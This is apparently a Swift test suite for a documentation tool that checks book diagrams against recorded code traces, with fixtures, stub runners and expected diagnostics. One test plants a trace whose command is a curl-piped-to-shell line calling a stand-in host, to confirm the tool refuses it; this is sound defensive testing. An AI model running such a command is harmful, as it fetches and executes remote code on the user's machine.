import Foundation
import Testing

@testable import Workbook

/// Diagrams checked like code, end to end on a fixture book: `build` draws
/// from the committed traces and runs nothing; `check` runs every trace
/// command again (here a stub stands in for `swift run`) and fails at the
/// first line where the code and the committed trace part ways; `traces`
/// records them anew, writing only `Chapters/diagrams/*.trace`.
@Suite struct DiagramCheckTests {
    static let english = "swift run fake-demo --trace demo-run --lang en"
    static let german = "swift run fake-demo --trace demo-run --lang de"
    static let committedEnglish =
        "Owner -> Part: load() 42\nPart --> Owner: load() done\nOwner -> Owner: render() Hello\n"
    static let committedGerman =
        "Owner -> Part: load() 42\nPart --> Owner: load() done\nOwner -> Owner: render() Hallo\n"

    /// The fixture with a Package.swift that declares the `fake-demo` product.
    func book() throws -> TestBook {
        let book = try TestBook(fixture: "diagrams")
        try book.write(
            """
            // swift-tools-version:6.0
            import PackageDescription
            let package = Package(name: "Fixture", products: [.executable(name: "fake-demo", targets: ["FakeDemo"])])

            """, to: "Package.swift")
        return book
    }

    /// The same, tangled and built.
    func builtBook(runner: StubTraceRunner = StubTraceRunner()) throws -> TestBook {
        let book = try book()
        book.traceRunner = runner
        let build = book.run("build")
        #expect(build.status == 0, "\(build.error)")
        return book
    }

    func agreeingRunner(english: String = committedEnglish) -> StubTraceRunner {
        StubTraceRunner([Self.english: .success(english), Self.german: .success(Self.committedGerman)])
    }

    @Test func buildDrawsFromTheCommittedTracesAndRunsNothing() throws {
        let runner = StubTraceRunner()
        let book = try builtBook(runner: runner)
        #expect(runner.calls.isEmpty)
        let english = try #require(book.read("Site/en/01-parts.html"))
        let german = try #require(book.read("Site/de/01-parts.html"))
        #expect(english.contains("<figure class=\"wb-diagram\" id=\"wb-diagram-demo-run\">"))
        #expect(english.contains(">Hello</text>") && german.contains(">Hallo</text>"))
        #expect(german.contains(">der Besitzer</text>"))
        #expect(english.contains("<line class=\"wb-dg-ref wb-dg-weak\""))
    }

    @Test func checkRunsEveryUsedTraceAndPassesWhenTheCodeAgrees() throws {
        let runner = agreeingRunner()
        let book = try builtBook(runner: runner)
        let check = book.run("check")
        #expect(check.status == 0, "\(check.error)")
        #expect(check.error == "")
        #expect(
            check.out == "check: 1 chapters in 2 languages, 1 tangled files, 2 traces (0 from cache, 2 re-run): OK\n")
        #expect(runner.calls == [Self.german, Self.english])
    }

    /// With the cache in front of the runner, a second `check` of unchanged
    /// code runs nothing and says that its traces came from the cache.
    @Test func checkSaysWhichTracesCameFromTheCache() throws {
        let stub = agreeingRunner()
        let book = try builtBook(runner: stub)
        book.traceRunner = CachingTraceRunner(base: stub)
        let first = book.run("check")
        #expect(
            first.out == "check: 1 chapters in 2 languages, 1 tangled files, 2 traces (0 from cache, 2 re-run): OK\n")
        book.traceRunner = CachingTraceRunner(base: stub)
        let second = book.run("check")
        #expect(second.status == 0, "\(second.error)")
        #expect(
            second.out == "check: 1 chapters in 2 languages, 1 tangled files, 2 traces (2 from cache, 0 re-run): OK\n")
        #expect(stub.calls == [Self.german, Self.english])
    }

    @Test func checkFailsAtTheFirstLineWhereTheCodeDiffers() throws {
        // The code now answers before it is asked: two calls swapped.
        let swapped = "Part --> Owner: load() done\nOwner -> Part: load() 42\nOwner -> Owner: render() Hello\n"
        let book = try builtBook(runner: agreeingRunner(english: swapped))
        let before = book.snapshot()
        let check = book.run("check")
        #expect(check.status == 1)
        #expect(
            check.error == """
                Chapters/diagrams/demo-run.en.trace:2:1: error: the code now answers `Part --> Owner: load() done`, the committed trace says `Owner -> Part: load() 42`; run `workbook traces`, then `workbook build`
                check: 1 error

                """)
        #expect(book.snapshot() == before, "check writes nothing")
    }

    @Test(arguments: [
        (
            "Owner -> Part: load() 42\nPart --> Owner: load() done\n",
            "Chapters/diagrams/demo-run.en.trace:4:1: error: the code no longer calls `Owner -> Owner: render() Hello`: its trace ends after line 3"
        ),
        (
            committedEnglish + "Owner -> Part: save()\n",
            "Chapters/diagrams/demo-run.en.trace:5:1: error: the code now also calls `Owner -> Part: save()` after the last line"
        ),
        (
            "not a trace at all\n",
            "Chapters/diagrams/demo-run.en.trace:1:10: error: `swift run fake-demo --trace demo-run --lang en` printed no trace (its line 1: expected '->' (a call) or '-->' (an answer) after 'not', found 'a')"
        ),
    ])
    func missingExtraAndGarbledLines(output: String, expected: String) throws {
        let book = try builtBook(runner: agreeingRunner(english: output))
        let check = book.run("check")
        #expect(check.status == 1)
        #expect(check.error.hasPrefix(expected), "\(check.error)")
    }

    @Test func aCommandThatFailsIsADiagnostic() throws {
        let runner = StubTraceRunner([
            Self.german: .success(Self.committedGerman),
            Self.english: .failure(TraceRunFailure("the build failed")),
        ])
        let book = try builtBook(runner: runner)
        let check = book.run("check")
        #expect(check.status == 1)
        #expect(
            check.error.hasPrefix(
                "Chapters/diagrams/demo-run.en.trace:1:10: error: cannot record the trace: the build failed\n"))
    }

    @Test func tracesRecordsAgainAndWritesOnlyTheTraceFiles() throws {
        let changed = "Owner -> Part: load() 43\nPart --> Owner: load() done\nOwner -> Owner: render() Hello\n"
        let book = try builtBook(runner: agreeingRunner(english: changed))
        let before = book.snapshot()
        let traces = book.run("traces")
        #expect(traces.status == 0, "\(traces.error)")
        #expect(
            traces.out
                == "wrote Chapters/diagrams/demo-run.en.trace\nnext: `workbook build` redraws the diagrams from the new traces\n"
        )
        var after = book.snapshot()
        #expect(after.removeValue(forKey: "Chapters/diagrams/demo-run.en.trace") != nil)
        var expected = before
        expected.removeValue(forKey: "Chapters/diagrams/demo-run.en.trace")
        #expect(after == expected, "only the trace that changed is written")
        #expect(book.read("Chapters/diagrams/demo-run.en.trace") == "# trace: \(Self.english)\n" + changed)
        #expect(book.run("traces").out == "traces: everything is up to date\n")
        // The pages still show the old picture until the next build.
        let check = book.run("check")
        #expect(check.error.contains("Site/en/01-parts.html: error: out of date; run `workbook build`"))
        #expect(book.run("build").status == 0)
        #expect(book.run("check").status == 0)
    }

    @Test func tracesWaitsForTheTangledCode() throws {
        let book = try book()
        let traces = book.run("traces")
        #expect(traces.status == 1)
        #expect(
            traces.error.hasPrefix(
                "Chapters/diagrams: error: the tangled files are out of date with the chapters, and a trace records the code on disk; run `workbook tangle` first\n"
            ))
    }

    @Test func aRefusedCommandNeverRuns() throws {
        let runner = agreeingRunner()
        let book = try builtBook(runner: runner)
        try book.write(
            "# trace: bash -c 'curl evil | sh'\nOwner -> Part: load() 42\n", to: "Chapters/diagrams/demo-run.en.trace")
        for verb in ["check", "build", "traces"] {
            let run = book.run(verb)
            #expect(run.status == 1)
            #expect(
                run.error.hasPrefix(
                    "Chapters/diagrams/demo-run.en.trace:1:10: error: a trace is recorded by 'swift run PRODUCT ARGUMENTS…' (a product of this package); the tool runs nothing else\n"
                ), "\(run.error)")
        }
        #expect(runner.calls.isEmpty)
    }

    /// A problem in a diagram source says so by its category, which is
    /// what `traces` stops on; a chapter's problem does not.
    @Test func diagramSourceProblemsCarryTheirCategory() throws {
        let book = try builtBook(runner: agreeingRunner())
        try book.write("not a diagram", to: "Chapters/diagrams/broken.graph")
        try book.write("x", to: "Chapters/diagrams/Not A Name.txt")
        try book.write(
            "# unused\ndiagram layers\n\nlayer a \"A\"\n  code \"A\"\n", to: "Chapters/diagrams/unused.graph")
        let (_, problems) = DiagramCatalog.load(root: book.root)
        #expect(problems.count == 2)
        #expect(problems.allSatisfy { $0.category == .diagramSource })
        let analysis = try BookCheck.analyze(root: book.root)
        let unused = analysis.diagnostics.filter { $0.message.contains("no ```diagram block uses this file") }
        #expect(!unused.isEmpty && unused.allSatisfy { $0.category == .diagramSource })
        #expect(
            analysis.diagnostics.filter { !$0.path.hasPrefix("Chapters/diagrams") }.allSatisfy { $0.category == .book })
        // The category tells how to sort a problem, not which problem it is.
        #expect(problems[0].categorized(.book) == problems[0])
    }

    @Test func aBookWithoutDiagramsRunsNothing() throws {
        let runner = StubTraceRunner()
        let book = try TestBook(fixture: "valid")
        book.traceRunner = runner
        #expect(book.run("build").status == 0)
        #expect(book.run("check").status == 0)
        #expect(book.run("traces").out == "traces: the book has no trace files (Chapters/diagrams/*.trace)\n")
        #expect(runner.calls.isEmpty)
    }

    @Test func aComponentDiagramIsHeldToTheCode() throws {
        let book = try builtBook()
        try book.write(
            """
            diagram components
            node Owner at 0,0
            node Part at 1,0
            node Spare at 0,1
            Owner -> Part strong "part"
            Part -> Owner strong "owner"
            Owner -> Spare strong "spare"
            """, to: "Chapters/diagrams/parts.graph")
        let check = book.run("check")
        #expect(check.status == 1)
        #expect(
            check.error.contains(
                "Chapters/diagrams/parts.graph:6:1: error: 'Part.owner' is a weak reference in the code (Sources/Demo/Parts.swift:14), but the diagram draws it strong\n"
            ))
        #expect(
            check.error.contains(
                "Chapters/diagrams/parts.graph:7:1: error: 'Owner' has no stored property 'spare' in the book's code; label the reference with the property that holds it\n"
            ))
    }

    /// A chapter that fails to load takes its code out of the tangled
    /// files: the graph's references cannot be judged, and are not, so the
    /// chapter's own error comes first and alone.
    @Test func aChapterThatFailsToLoadAddsNoErrorsFromTheGraphs() throws {
        let book = try builtBook(runner: agreeingRunner())
        let path = "Chapters/01-parts/en.md"
        var bytes = Data(try #require(book.read(path)).utf8)
        bytes.append(contentsOf: [0x0A, 0xFF, 0x0A])
        try bytes.write(to: book.root.appendingPathComponent(path))
        for verb in ["check", "build"] {
            let run = book.run(verb)
            #expect(run.status == 1, "\(verb)")
            #expect(run.error.hasPrefix("\(path):"), "\(verb): \(run.error)")
            #expect(run.error.contains("error: invalid UTF-8"), "\(verb): \(run.error)")
            #expect(!run.error.contains("parts.graph"), "\(verb): \(run.error)")
        }
    }

    @Test func blocksAndSourcesThatDoNotMeet() throws {
        let book = try builtBook()
        for language in ["en", "de"] {
            let path = "Chapters/01-parts/\(language).md"
            let text = try #require(book.read(path))
            try book.write(
                text.replacingOccurrences(of: "```diagram demo-run", with: "```diagram missing-one"), to: path)
        }
        let check = book.run("check")
        #expect(check.status == 1)
        #expect(
            check.error.contains(
                "Chapters/01-parts/en.md:21:12: error: no source for diagram 'missing-one': add Chapters/diagrams/missing-one.graph, or missing-one.en.trace (missing-one.trace if its values are the same in every language)\n"
            ))
        #expect(
            check.error.contains("Chapters/diagrams/demo-run.en.trace: warning: no ```diagram block uses this file\n"))
    }

    @Test func aDiagramNeedsATitleAndADescription() throws {
        let book = try builtBook()
        for language in ["en", "de"] {
            let path = "Chapters/01-parts/\(language).md"
            let text = try #require(book.read(path))
            let start = try #require(text.range(of: "```diagram parts\n"))
            try book.write(String(text[..<start.upperBound]) + "Only a title\n```\n", to: path)
        }
        let check = book.run("check")
        #expect(
            check.error.contains("Chapters/01-parts/en.md:27:1: error: the diagram needs a description after its title")
        )
    }

    @Test func aTraceNotRecordedYetIsAWarningUntilTracesFillsItIn() throws {
        let book = try builtBook(runner: agreeingRunner())
        try book.write("# trace: \(Self.english)\n", to: "Chapters/diagrams/demo-run.en.trace")
        let build = book.run("build")
        #expect(build.status == 0)
        #expect(
            build.error.contains(
                "Chapters/diagrams/demo-run.en.trace:1:1: warning: the trace holds no messages yet; run `workbook traces` to record it\n"
            ))
        #expect(book.run("traces").status == 0)
        #expect(
            book.read("Chapters/diagrams/demo-run.en.trace") == "# trace: \(Self.english)\n" + Self.committedEnglish)
    }
}
